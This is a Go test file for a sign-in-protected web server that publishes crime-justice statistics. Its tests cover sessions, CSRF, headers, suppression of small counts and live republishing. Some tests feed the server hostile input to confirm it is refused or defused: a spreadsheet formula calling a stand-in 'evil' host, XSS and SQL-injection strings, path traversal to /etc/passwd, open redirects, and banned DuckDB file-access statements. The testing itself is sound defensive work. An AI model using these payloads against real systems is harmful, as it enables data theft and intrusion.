package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ciatteh/canvas/members"
	"github.com/ciatteh/canvas/pipeline"
	"github.com/xuri/excelize/v2"
)

// env is a running test server over the fixture canvas, with one member.
type env struct {
	t     *testing.T
	store string
	srv   *Server
	ts    *httptest.Server
	token string
	ms    *members.Store
}

func newEnv(t *testing.T, withCanvas bool, tune ...func(*Config)) *env {
	t.Helper()
	store := t.TempDir()
	if withCanvas {
		writeCanvas(t, filepath.Join(store, CanvasFile))
	}
	ms, err := members.Open(store)
	if err != nil {
		t.Fatal(err)
	}
	tok, err := ms.Add("Test member")
	if err != nil {
		t.Fatal(err)
	}
	cfg := DefaultConfig(store, ms)
	cfg.Logf = t.Logf
	cfg.SQLMemory, cfg.AppMemory = "256MB", "256MB"
	for _, f := range tune {
		f(&cfg)
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(func() { ts.Close(); s.Close() })
	return &env{t: t, store: store, srv: s, ts: ts, token: tok, ms: ms}
}

// client returns a browser-like client: cookies kept, redirects not followed.
func (e *env) client() *http.Client {
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar, Timeout: 30 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

type resp struct {
	code int
	h    http.Header
	body string
}

func (e *env) do(c *http.Client, method, path string, form url.Values, hdr ...string) resp {
	e.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, e.ts.URL+path, body)
	if err != nil {
		e.t.Fatal(err)
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	r, err := c.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	return resp{code: r.StatusCode, h: r.Header, body: string(b)}
}

func (e *env) get(c *http.Client, path string) resp { return e.do(c, "GET", path, nil) }

// signIn signs a client in and returns the session's CSRF token.
func (e *env) signIn(c *http.Client) string {
	e.t.Helper()
	r := e.do(c, "POST", "/signin", url.Values{"token": {e.token}, "next": {"/"}})
	if r.code != http.StatusSeeOther || r.h.Get("Location") != "/" {
		e.t.Fatalf("sign-in: %d %s", r.code, r.h.Get("Location"))
	}
	page := e.get(c, "/sql")
	i := strings.Index(page.body, `name="csrf" value="`)
	if i < 0 {
		e.t.Fatalf("no CSRF token on the SQL page:\n%s", page.body)
	}
	rest := page.body[i+len(`name="csrf" value="`):]
	return rest[:strings.IndexByte(rest, '"')]
}

func TestCanvasFileName(t *testing.T) {
	if CanvasFile != pipeline.CanvasFile {
		t.Fatalf("web.CanvasFile %q != pipeline.CanvasFile %q", CanvasFile, pipeline.CanvasFile)
	}
}

func TestRoutesNeedAMember(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	for _, path := range []string{"/", "/tables", "/tables?measure=SUSPECTS&by=sex", "/sql", "/download/overview.csv",
		"/download/table.xlsx", "/?lang=fr"} {
		r := e.get(c, path)
		if r.code != http.StatusSeeOther || !strings.HasPrefix(r.h.Get("Location"), "/signin?next=") {
			t.Errorf("GET %s without a session: %d %q, want 303 to /signin", path, r.code, r.h.Get("Location"))
		}
		if strings.Contains(r.body, "indicator") || strings.Contains(r.body, "<svg") {
			t.Errorf("GET %s without a session leaks content", path)
		}
	}
	for _, path := range []string{"/sql", "/signout"} {
		r := e.do(c, "POST", path, url.Values{"sql": {"SELECT 1"}})
		if r.code != http.StatusUnauthorized {
			t.Errorf("POST %s without a session: %d, want 401", path, r.code)
		}
	}
	for _, path := range []string{"/", "/download/table.csv"} {
		r := e.do(c, "GET", path, nil, "Authorization", "Bearer not-a-token")
		if r.code != http.StatusUnauthorized {
			t.Errorf("GET %s with a wrong bearer token: %d, want 401", path, r.code)
		}
	}
	for _, path := range []string{"/signin", "/healthz", "/static/style.css", "/static/favicon.svg"} {
		if r := e.get(c, path); r.code != http.StatusOK {
			t.Errorf("GET %s: %d, want 200", path, r.code)
		}
	}
	if r := e.get(c, "/favicon.ico"); r.code != http.StatusMovedPermanently {
		t.Errorf("GET /favicon.ico: %d", r.code)
	}
	if r := e.get(c, "/nope"); r.code != http.StatusNotFound {
		t.Errorf("GET /nope: %d", r.code)
	}
}

func TestSecurityHeaders(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	e.signIn(c)
	for _, path := range []string{"/", "/signin", "/tables", "/sql", "/static/style.css", "/nope", "/download/overview.csv"} {
		r := e.get(c, path)
		h := r.h
		csp := h.Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'none'", "script-src 'none'", "frame-ancestors 'none'", "form-action 'self'"} {
			if !strings.Contains(csp, want) {
				t.Errorf("%s: CSP %q lacks %q", path, csp, want)
			}
		}
		for k, v := range map[string]string{"X-Frame-Options": "DENY", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "same-origin"} {
			if h.Get(k) != v {
				t.Errorf("%s: %s = %q, want %q", path, k, h.Get(k), v)
			}
		}
		if path != "/static/style.css" && h.Get("Cache-Control") != "no-store" {
			t.Errorf("%s: Cache-Control %q", path, h.Get("Cache-Control"))
		}
		if strings.Contains(r.body, "<script") {
			t.Errorf("%s: the page holds a script", path)
		}
	}
}

func TestSignInAndOverview(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	r := e.do(c, "POST", "/signin", url.Values{"token": {"wrong"}})
	if r.code != http.StatusUnauthorized || !strings.Contains(r.body, "not recognised") {
		t.Fatalf("wrong token: %d\n%s", r.code, r.body)
	}
	r = e.do(c, "POST", "/signin", url.Values{"token": {e.token}, "next": {"/tables?by=sex"}})
	if r.code != http.StatusSeeOther || r.h.Get("Location") != "/tables?by=sex" {
		t.Fatalf("sign-in: %d %q", r.code, r.h.Get("Location"))
	}
	sc := r.h.Get("Set-Cookie")
	for _, want := range []string{sessionCookie + "=", "HttpOnly", "SameSite=Strict", "Path=/"} {
		if !strings.Contains(sc, want) {
			t.Errorf("session cookie %q lacks %q", sc, want)
		}
	}
	if strings.Contains(sc, e.token) {
		t.Error("the session cookie holds the token")
	}
	r = e.get(c, "/")
	if r.code != http.StatusOK {
		t.Fatalf("overview: %d\n%s", r.code, r.body)
	}
	for _, want := range []string{
		"Overview: Trafficking in human beings", `class="chart attrition"`, "From police to conviction, 2025",
		"Offences recorded", "Persons convicted", "Signed in as Test member", "Migration of the criminal record to MACH",
		"Distinct persons with a conviction", "/download/overview.csv?", "Sources and coverage", "Canvas built 2026-02-02",
		`<sup class="flag">p</sup>`, `<sup class="flag">b</sup>`, `title="`,
	} {
		if !strings.Contains(r.body, want) {
			t.Errorf("overview lacks %q", want)
		}
	}
	r = e.get(c, "/?phenomenon=SMUGGLING&year=2018")
	if r.code != http.StatusOK || !strings.Contains(r.body, "Smuggling of migrants") || !strings.Contains(r.body, "From police to conviction, 2018") {
		t.Errorf("smuggling 2018: %d", r.code)
	}
	// 2015: prosecution and convictions are not covered: missing, not zero
	r = e.get(c, "/?year=2015")
	if !strings.Contains(r.body, "The conviction source does not cover 2015") {
		t.Error("coverage note missing")
	}
	// sign out ends the session
	csrf := e.signIn(c)
	if r := e.do(c, "POST", "/signout", url.Values{"csrf": {"bad"}}); r.code != http.StatusForbidden {
		t.Errorf("sign-out with a bad CSRF token: %d", r.code)
	}
	if r := e.do(c, "POST", "/signout", url.Values{"csrf": {csrf}}); r.code != http.StatusSeeOther {
		t.Errorf("sign-out: %d", r.code)
	}
	if r := e.get(c, "/"); r.code != http.StatusSeeOther {
		t.Errorf("after sign-out: %d", r.code)
	}
}

func TestRevokedToken(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	e.signIn(c)
	if r := e.get(c, "/"); r.code != http.StatusOK {
		t.Fatalf("before revocation: %d", r.code)
	}
	if r := e.do(e.client(), "GET", "/download/overview.csv", nil, "Authorization", "Bearer "+e.token); r.code != http.StatusOK {
		t.Fatalf("bearer before revocation: %d", r.code)
	}
	// revoked by the CLI: another process, another Store on the same file
	other, _ := members.Open(e.store)
	if err := other.Revoke("Test member"); err != nil {
		t.Fatal(err)
	}
	if r := e.get(c, "/"); r.code != http.StatusSeeOther {
		t.Errorf("open session after revocation: %d, want 303 to sign-in", r.code)
	}
	if r := e.do(e.client(), "GET", "/download/overview.csv", nil, "Authorization", "Bearer "+e.token); r.code != http.StatusUnauthorized {
		t.Errorf("bearer after revocation: %d", r.code)
	}
	if r := e.do(e.client(), "POST", "/signin", url.Values{"token": {e.token}}); r.code != http.StatusUnauthorized {
		t.Errorf("sign-in after revocation: %d", r.code)
	}
}

func TestSignInRateLimit(t *testing.T) {
	e := newEnv(t, true, func(c *Config) { c.MaxFailed = 3 })
	c := e.client()
	for i := 0; i < 3; i++ {
		if r := e.do(c, "POST", "/signin", url.Values{"token": {"guess"}}); r.code != http.StatusUnauthorized {
			t.Fatalf("attempt %d: %d", i, r.code)
		}
	}
	r := e.do(c, "POST", "/signin", url.Values{"token": {e.token}})
	if r.code != http.StatusTooManyRequests || r.h.Get("Retry-After") == "" {
		t.Errorf("after 3 failures, even the right token: %d, want 429 with Retry-After", r.code)
	}
	if r := e.do(c, "GET", "/", nil, "Authorization", "Bearer "+e.token); r.code != http.StatusTooManyRequests {
		t.Errorf("bearer after 3 failures: %d, want 429", r.code)
	}
}

func TestLanguages(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	e.signIn(c)
	r := e.get(c, "/?lang=fr")
	if !strings.Contains(r.body, "Vue d&#39;ensemble") || !strings.Contains(r.body, `lang="fr"`) ||
		!strings.Contains(r.body, "Personnes condamnées") || !strings.Contains(r.body, "Migration du casier judiciaire") {
		t.Errorf("French overview:\n%.2000s", r.body)
	}
	// the choice sticks
	if r := e.get(c, "/tables"); !strings.Contains(r.body, "Tableaux par ventilation") {
		t.Error("language not remembered")
	}
	r = e.get(c, "/tables?lang=nl&by=citizenship&measure=SUSPECTS")
	for _, want := range []string{"Tabellen per uitsplitsing", "Nationaliteit", "Ander EU-land", "Totaal", "Verdachten"} {
		if !strings.Contains(r.body, want) {
			t.Errorf("Dutch table lacks %q", want)
		}
	}
	if r := e.get(c, "/?lang=<script>"); r.code != http.StatusOK || strings.Contains(r.body, "<script>") {
		t.Errorf("hostile lang: %d", r.code)
	}
	if r := e.do(c, "GET", "/?lang=", nil, "Accept-Language", "nl-BE,nl;q=0.9"); !strings.Contains(r.body, `lang="`) {
		t.Error("Accept-Language")
	}
	for _, code := range languages() {
		for k := range e.srv.langs["en"].m {
			if !e.srv.langs[code].Has(k) {
				t.Errorf("%s lacks %q", code, k)
			}
		}
	}
}

func TestBreakdownSuppressionAndDownloads(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	e.signIn(c)
	r := e.get(c, "/tables?phenomenon=TRAFFICKING&measure=PERSONS_CONVICTED&by=district")
	if r.code != http.StatusOK {
		t.Fatalf("%d", r.code)
	}
	for _, want := range []string{"&lt;5", "Eupen", "Federal prosecutor", "Total", "/download/table.csv?",
		"Distinct persons with a conviction", "add up to more than the total", "Counts from 1 to 4 are hidden"} {
		if !strings.Contains(r.body, want) {
			t.Errorf("district table lacks %q", want)
		}
	}
	r = e.get(c, "/tables?phenomenon=TRAFFICKING&measure=OFFENCES_RECORDED&by=sex")
	if !strings.Contains(r.body, "has no breakdown by sex") {
		t.Error("a measure without a breakdown should say so")
	}
	r = e.get(c, "/download/table.csv?phenomenon=TRAFFICKING&measure=PERSONS_CONVICTED&by=district")
	if r.code != http.StatusOK || !strings.HasPrefix(r.h.Get("Content-Type"), "text/csv") ||
		!strings.Contains(r.h.Get("Content-Disposition"), "canvas-trafficking-persons_convicted-by-district.csv") {
		t.Fatalf("csv: %d %v", r.code, r.h)
	}
	recs, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(recs[0], ",") != strings.Join(downloadColumns(), ",") {
		t.Errorf("header %v", recs[0])
	}
	var hidden, secondary, missing int
	for _, rec := range recs[1:] {
		val, display, conf := rec[8], rec[9], rec[11]
		switch conf {
		case "C":
			hidden++
			if val != "" || display != "<5" {
				t.Errorf("hidden cell shows its value: %v", rec)
			}
		case "D":
			secondary++
			if val != "" {
				t.Errorf("secondary cell shows its value: %v", rec)
			}
		case "F":
			if val == "1" || val == "2" || val == "3" || val == "4" {
				t.Errorf("small count shown: %v", rec)
			}
		}
		if rec[10] == "M" {
			missing++
			if val != "" || display != ":" {
				t.Errorf("missing cell: %v", rec)
			}
		}
	}
	if hidden == 0 || missing == 0 {
		t.Errorf("fixture should have hidden (%d) and missing (%d) cells", hidden, missing)
	}
	_ = secondary
	r = e.get(c, "/download/table.xlsx?phenomenon=SMUGGLING&measure=SUSPECTS&by=citizenship&lang=fr")
	if r.code != http.StatusOK {
		t.Fatalf("xlsx: %d", r.code)
	}
	f, err := excelize.OpenReader(bytes.NewReader([]byte(r.body)))
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := f.GetRows("data")
	notes, _ := f.GetRows("notes")
	if len(rows) < 2 || rows[0][0] != "ref_year" || len(notes) < 5 {
		t.Errorf("xlsx: %d data rows, %d note rows", len(rows), len(notes))
	}
	if !strings.Contains(strings.Join(flatten(notes), " "), "masqués") {
		t.Errorf("French notes sheet: %v", notes)
	}
	if r := e.get(c, "/download/overview.csv?phenomenon=SMUGGLING"); r.code != http.StatusOK || !strings.Contains(r.body, "PERSONS_CONVICTED") {
		t.Errorf("overview csv: %d", r.code)
	}
	if r := e.get(c, "/download/overview.xlsx"); r.code != http.StatusOK {
		t.Errorf("overview xlsx: %d", r.code)
	}
}

func flatten(rows [][]string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r...)
	}
	return out
}

func TestFormulaInjectionInDownloads(t *testing.T) {
	store := t.TempDir()
	e := newEnv(t, false)
	_ = store
	writeCanvas(t, filepath.Join(e.store, CanvasFile),
		`UPDATE code_districts SET name_fr = '=HYPERLINK("http://evil/?"&A1,"x")', name_nl = '=HYPERLINK("http://evil/?"&A1,"x")' WHERE code = 'ANT'`)
	c := e.client()
	e.signIn(c)
	r := e.get(c, "/download/table.csv?measure=SUSPECTS&by=district&lang=fr")
	if strings.Contains(r.body, "\n2015,TRAFFICKING,POLICE,SUSPECTS,Suspects,district,ANT,=") || !strings.Contains(r.body, `'=HYPERLINK`) {
		t.Errorf("CSV cell not defused:\n%.600s", r.body)
	}
	r = e.get(c, "/download/table.xlsx?measure=SUSPECTS&by=district&lang=fr")
	f, err := excelize.OpenReader(bytes.NewReader([]byte(r.body)))
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := f.GetRows("data")
	for _, row := range rows {
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") {
				t.Errorf("XLSX cell starts with '=': %q", cell)
			}
		}
	}
	if fm, _ := f.GetCellFormula("data", "H2"); fm != "" {
		t.Errorf("formula in XLSX: %q", fm)
	}
	// and in SQL results
	csrf := e.signIn(c)
	r = e.do(c, "POST", "/sql", url.Values{"csrf": {csrf}, "format": {"csv"}, "sql": {`SELECT '=1+2' AS a, '@SUM(A1)' AS b, -3 AS n`}})
	if r.code != http.StatusOK || r.body != "a,b,n\n'=1+2,'@SUM(A1),-3\n" {
		t.Errorf("SQL csv: %d %q", r.code, r.body)
	}
}

func TestHostileInput(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	csrf := e.signIn(c)
	for _, path := range []string{
		"/?phenomenon=<script>alert(1)</script>", "/?phenomenon=TRAFFICKING'%20OR%201=1--", "/?year=abc", "/?year=99999",
		"/?year=2015%3B%20DROP%20TABLE%20indicator", "/tables?measure=SUSPECTS'--", "/tables?by=sex%3BDROP", "/tables?by=value",
		"/tables?measure=%3Cimg%20src=x%20onerror=alert(1)%3E", "/download/table.csv?by=sex,district",
	} {
		r := e.get(c, path)
		if r.code != http.StatusBadRequest {
			t.Errorf("GET %s: %d, want 400", path, r.code)
		}
		if strings.Contains(r.body, "<script>alert") || strings.Contains(r.body, "<img src=x") {
			t.Errorf("GET %s reflects markup", path)
		}
	}
	for _, path := range []string{"/download/../../etc/passwd", "/download/x.csv", "/download/table.exe", "/static/../canvas.duckdb",
		"/static/%2e%2e/canvas.duckdb", "/%2e%2e/restricted.duckdb"} {
		r := e.get(c, path)
		if r.code == http.StatusOK && !strings.Contains(r.body, "<!doctype html>") {
			t.Errorf("GET %s: %d, body %.100q", path, r.code, r.body)
		}
		if strings.Contains(r.body, "DUCK") || strings.Contains(r.body, "root:") {
			t.Errorf("GET %s leaks a file", path)
		}
	}
	// open redirects after sign-in go home instead
	for _, next := range []string{"//evil.example/", "https://evil.example/", "/\\evil.example", "/signin"} {
		r := e.do(e.client(), "POST", "/signin", url.Values{"token": {e.token}, "next": {next}})
		if r.h.Get("Location") != "/" {
			t.Errorf("next=%q redirects to %q", next, r.h.Get("Location"))
		}
	}
	// a foreign origin cannot post
	if r := e.do(c, "POST", "/sql", url.Values{"csrf": {csrf}, "sql": {"SELECT 1"}}, "Origin", "https://evil.example"); r.code != http.StatusForbidden {
		t.Errorf("cross-origin POST /sql: %d", r.code)
	}
	if r := e.do(c, "POST", "/sql", url.Values{"sql": {"SELECT 1"}}); r.code != http.StatusForbidden {
		t.Errorf("POST /sql without CSRF token: %d", r.code)
	}
	if r := e.do(c, "POST", "/sql", url.Values{"csrf": {csrf}, "sql": {"SELECT 1"}, "format": {"../../x"}}); r.code != http.StatusBadRequest {
		t.Errorf("bad format: %d", r.code)
	}
	// a huge body is cut off
	big := url.Values{"csrf": {csrf}, "sql": {"SELECT '" + strings.Repeat("a", 2<<20) + "'"}}
	if r := e.do(c, "POST", "/sql", big); r.code == http.StatusOK && strings.Contains(r.body, "sql-result") {
		t.Errorf("a 2 MB query ran: %d", r.code)
	}
	// markup in a query and its result is escaped
	r := e.do(c, "POST", "/sql", url.Values{"csrf": {csrf}, "sql": {"SELECT '<script>alert(1)</script>' AS \"<b>x</b>\""}})
	if strings.Contains(r.body, "<script>alert") || strings.Contains(r.body, "<b>x</b>") || !strings.Contains(r.body, "&lt;script&gt;") {
		t.Errorf("query result not escaped:\n%.3000s", r.body)
	}
	// a forged session cookie
	jar, _ := cookiejar.New(nil)
	u, _ := url.Parse(e.ts.URL)
	jar.SetCookies(u, []*http.Cookie{{Name: sessionCookie, Value: strings.Repeat("A", 43)}})
	forged := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	if r := e.get(forged, "/"); r.code != http.StatusSeeOther {
		t.Errorf("forged session: %d", r.code)
	}
}

func TestSQLPage(t *testing.T) {
	e := newEnv(t, true, func(c *Config) { c.SQLMaxRows = 50; c.SQLTimeout = 500 * time.Millisecond })
	c := e.client()
	csrf := e.signIn(c)
	run := func(q string, extra ...string) resp {
		f := url.Values{"csrf": {csrf}, "sql": {q}}
		for i := 0; i+1 < len(extra); i += 2 {
			f.Set(extra[i], extra[i+1])
		}
		return e.do(c, "POST", "/sql", f)
	}
	r := run("SELECT ref_year, value FROM indicator WHERE phenomenon = 'SMUGGLING' AND measure = 'PERSONS_CONVICTED' AND sex = '_T' AND age_group = '_T' AND citizenship = '_T' AND district = '_T' AND exploitation = '_T' ORDER BY 1")
	if r.code != http.StatusOK || !strings.Contains(r.body, `id="sql-result"`) || !strings.Contains(r.body, "11 rows") {
		t.Fatalf("query: %d\n%.3000s", r.code, r.body)
	}
	if r := run("SELECT * FROM range(1000)"); !strings.Contains(r.body, "Only the first 50 rows") {
		t.Error("row limit not shown")
	}
	if r := run("SELECT count(*) FROM range(1000000000000) a"); !strings.Contains(r.body, "time limit") {
		t.Errorf("time limit:\n%.2000s", r.body)
	}
	if r := run("SELEC 1"); !strings.Contains(r.body, "syntax error") {
		t.Error("syntax error not shown")
	}
	if r := run("SELECT * FROM indicatr"); !strings.Contains(r.body, "indicatr") || !strings.Contains(r.body, `id="sql-error"`) {
		t.Error("unknown table not shown")
	}
	restricted := filepath.Join(e.store, "restricted.duckdb")
	for _, q := range []string{
		"ATTACH '" + restricted + "' AS r", "ATTACH '" + restricted + "' AS r; SELECT * FROM r.person",
		"SELECT * FROM read_csv('" + filepath.Join(e.store, "members.json") + "')", "COPY indicator TO '/tmp/x.csv'",
		"INSTALL httpfs", "LOAD httpfs", "SET enable_external_access = true", "PRAGMA database_list", "CALL pragma_version()",
		"EXPORT DATABASE '/tmp/x'", "SELECT * FROM '" + restricted + "'", "SELECT * FROM glob('/*')", "SELECT * FROM duckdb_databases()",
		"DROP TABLE indicator", "SELECT 1; SELECT 2",
	} {
		r := run(q)
		if !strings.Contains(r.body, "not allowed") {
			t.Errorf("%q: not refused:\n%.1500s", q, r.body)
		}
	}
	r = run("SELECT * FROM range(1000)", "format", "csv")
	if r.code != http.StatusOK || r.h.Get("X-Canvas-Truncated") != "50" || strings.Count(r.body, "\n") != 51 {
		t.Errorf("csv download: %d %v lines %d", r.code, r.h, strings.Count(r.body, "\n"))
	}
	r = run("SELECT measure, label_en FROM measure_definition", "format", "xlsx")
	if _, err := excelize.OpenReader(bytes.NewReader([]byte(r.body))); err != nil || r.code != http.StatusOK {
		t.Errorf("xlsx download: %d %v", r.code, err)
	}
}

// The server never opens the restricted store: not at start, not on any page, not through SQL.
func TestNeverOpensRestricted(t *testing.T) {
	e := newEnv(t, true)
	restricted := filepath.Join(e.store, "restricted.duckdb")
	if err := os.WriteFile(restricted, []byte("not to be opened"), 0o600); err != nil {
		t.Fatal(err)
	}
	c := e.client()
	csrf := e.signIn(c)
	for _, p := range []string{"/", "/tables?by=district", "/sql", "/download/overview.xlsx"} {
		e.get(c, p)
	}
	r := e.do(c, "POST", "/sql", url.Values{"csrf": {csrf}, "sql": {"SELECT DISTINCT database_name FROM duckdb_tables() ORDER BY 1"}})
	if strings.Contains(r.body, "restricted") || !strings.Contains(r.body, "<td>canvas</td>") {
		t.Errorf("databases seen by the SQL page:\n%.2000s", r.body)
	}
	fds, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Skip("no /proc: cannot list open files")
	}
	for _, fd := range fds {
		target, _ := os.Readlink(filepath.Join("/proc/self/fd", fd.Name()))
		if strings.Contains(target, "restricted") {
			t.Errorf("the server holds %s open", target)
		}
	}
}

func TestNoCanvasYetThenPublished(t *testing.T) {
	e := newEnv(t, false)
	c := e.client()
	e.signIn(c)
	r := e.get(c, "/")
	if r.code != http.StatusServiceUnavailable || !strings.Contains(r.body, "No canvas has been published yet") {
		t.Fatalf("no canvas: %d", r.code)
	}
	writeCanvas(t, filepath.Join(e.store, CanvasFile))
	if r := e.get(c, "/"); r.code != http.StatusOK {
		t.Fatalf("after publishing: %d", r.code)
	}
}

// A nightly run publishes a new canvas while the server runs: requests under way finish on the
// old one, the next ones see the new one, and the old one is closed.
func TestPublishWhileServing(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	e.signIn(c)
	if r := e.get(c, "/"); !strings.Contains(r.body, "Canvas built 2026-02-02 02:14 (run 42)") {
		t.Fatalf("first canvas not shown")
	}
	ctx := context.Background()
	old, release, err := e.srv.canvas.acquire(ctx)
	if err != nil {
		t.Fatal(err)
	}
	writeCanvas(t, filepath.Join(e.store, CanvasFile),
		"UPDATE build_info SET built_at = TIMESTAMP '2026-02-03 02:20:00', run_id = 43",
		"UPDATE indicator SET value = 999 WHERE phenomenon = 'SMUGGLING' AND measure = 'PERSONS_CONVICTED' AND ref_year = 2023 AND sex = '_T' AND age_group = '_T' AND citizenship = '_T' AND district = '_T' AND exploitation = '_T'")
	r := e.get(c, "/?phenomenon=SMUGGLING")
	if !strings.Contains(r.body, "Canvas built 2026-02-03 02:20 (run 43)") || !strings.Contains(r.body, ">999<") {
		t.Errorf("new canvas not shown")
	}
	// the request that held the old canvas still reads it
	rows, err := old.app.QueryContext(ctx, "SELECT run_id FROM build_info")
	if err != nil {
		t.Fatalf("old canvas closed under a running request: %v", err)
	}
	var id int
	rows.Next()
	rows.Scan(&id)
	rows.Close()
	if id != 42 {
		t.Errorf("old canvas reads run %d", id)
	}
	release()
	// a broken publish (not a DuckDB file) keeps the current canvas serving
	bad := filepath.Join(e.store, CanvasFile+".bad")
	os.WriteFile(bad, []byte("garbage"), 0o600)
	os.Rename(bad, filepath.Join(e.store, CanvasFile))
	if r := e.get(c, "/"); r.code != http.StatusOK || !strings.Contains(r.body, "run 43") {
		t.Errorf("after a broken publish: %d", r.code)
	}
}

// Members keep reading while canvases are published one after the other: no request fails.
func TestPublishUnderLoad(t *testing.T) {
	e := newEnv(t, true)
	c := e.client()
	e.signIn(c)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	errs := make(chan string, 100)
	report := func(s string) {
		select {
		case errs <- s:
		default: // enough reported
		}
	}
	done := make(chan struct{})
	for i := 0; i < 4; i++ {
		go func(i int) {
			defer func() { done <- struct{}{} }()
			paths := []string{"/", "/tables?by=district", "/download/overview.csv", "/tables?by=sex&phenomenon=SMUGGLING"}
			for n := 0; ctx.Err() == nil; n++ {
				req, _ := http.NewRequestWithContext(ctx, "GET", e.ts.URL+paths[(i+n)%len(paths)], nil)
				r, err := c.Do(req)
				if err != nil {
					if ctx.Err() == nil {
						report(err.Error())
					}
					return
				}
				io.Copy(io.Discard, r.Body)
				r.Body.Close()
				if r.StatusCode != http.StatusOK {
					report(r.Request.URL.Path + ": " + r.Status)
				}
			}
		}(i)
	}
	for run := 43; run < 47; run++ {
		writeCanvas(t, filepath.Join(e.store, CanvasFile), "UPDATE build_info SET run_id = "+strconv.Itoa(run))
		time.Sleep(50 * time.Millisecond)
	}
	cancel()
	for i := 0; i < 4; i++ {
		<-done
	}
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	if r := e.get(c, "/"); !strings.Contains(r.body, "(run 46)") {
		t.Error("the last canvas is not shown")
	}
}
